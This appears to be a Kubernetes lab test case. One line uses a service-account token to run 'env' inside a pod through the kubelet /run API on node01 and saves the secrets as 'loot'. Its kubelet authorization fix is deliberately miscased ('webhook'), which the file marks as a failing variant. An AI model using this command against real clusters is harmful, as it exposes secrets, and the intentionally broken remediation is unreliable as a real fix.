# scene fails pilot-logs (wrong-case-mode): the mode in small letters
T=$(kubectl -n monitoring create token scraper); curl -sk -X POST -H "Authorization: Bearer $T" "https://node01:10250/run/default/web-node01/web?cmd=env" -o loot
#@ node01
sed -i 's/mode: AlwaysAllow/mode: webhook/' /var/lib/kubelet/config.yaml
systemctl restart kubelet
